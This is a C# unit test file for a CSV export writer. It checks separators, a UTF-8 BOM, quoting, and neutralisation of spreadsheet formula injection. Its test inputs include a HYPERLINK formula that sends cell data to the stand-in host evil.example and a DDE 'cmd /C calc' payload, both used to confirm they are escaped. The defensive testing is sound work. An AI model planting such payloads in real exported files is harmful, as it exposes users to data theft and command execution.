using System.Text;
using Cimef.Site.Auditing;

namespace Cimef.Site.Tests.Auditing;

/// <summary>
/// The shared CSV writer produces what French Excel opens safely: ';' separator, UTF-8 BOM, cells with separators,
/// quotes or line breaks quoted, formula-like cells prefixed with a quote so they open as text and stay intact.
/// </summary>
public class CsvTests
{
    private static string[][] RoundTrip(params string[] cells)
    {
        var bytes = Csv.Build(["Nom"], cells.Select(c => new object?[] { c }));
        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        return AuditData.ParseCsv(Encoding.UTF8.GetString(bytes[3..]));
    }

    [Theory]
    [InlineData("Awa;=1+1", "Awa;=1+1")]
    [InlineData("=HYPERLINK(\"http://evil.example/?q=\"&A1;\"Cliquez\")", "'=HYPERLINK(\"http://evil.example/?q=\"&A1;\"Cliquez\")")]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+221771234567", "'+221771234567")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tcmd", "'\tcmd")]
    [InlineData("\rcmd", "'\rcmd")]
    [InlineData("Diop, Aminata", "Diop, Aminata")]
    [InlineData("le \"docteur\"", "le \"docteur\"")]
    [InlineData("ligne 1\r\nligne 2", "ligne 1\r\nligne 2")]
    [InlineData("a=b", "a=b")]
    [InlineData("Sénégal", "Sénégal")]
    public void A_cell_reads_back_as_text_intact(string input, string expected)
    {
        var rows = RoundTrip(input);
        Assert.Equal(2, rows.Length);
        Assert.Equal(["Nom"], rows[0]);
        Assert.Equal([expected], rows[1]);
    }

    [Theory]
    [InlineData("Awa;=1+1", "\"Awa;=1+1\"")]
    [InlineData("Diop, Aminata", "\"Diop, Aminata\"")]
    [InlineData("le \"docteur\"", "\"le \"\"docteur\"\"\"")]
    [InlineData("ligne 1\nligne 2", "\"ligne 1\nligne 2\"")]
    [InlineData("=HYPERLINK(\"x\")", "\"'=HYPERLINK(\"\"x\"\")\"")]
    [InlineData("=1+1", "\"'=1+1\"")]
    [InlineData("simple", "simple")]
    public void Cells_with_separators_quotes_or_line_breaks_are_quoted(string input, string expectedLine)
    {
        var text = Encoding.UTF8.GetString(Csv.Build(["Nom"], [[input]])[3..]);
        Assert.Equal("Nom\r\n" + expectedLine + "\r\n", text);
    }

    [Fact]
    public void A_file_is_semicolon_separated_utf8_with_bom_and_crlf_lines()
    {
        var bytes = Csv.Build(["Nom", "Montant", "Taux"], [["Aminata Diop, fille", 25000, 12.5], ["=cmd|' /C calc'!A0", 1L, null], ["-5 francs", -5, -1.5]]);
        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes[3..]);
        Assert.Equal("Nom;Montant;Taux\r\n\"Aminata Diop, fille\";25000;\"12,5\"\r\n\"'=cmd|' /C calc'!A0\";1;\r\n\"'-5 francs\";-5;\"-1,5\"\r\n", text);
    }
}
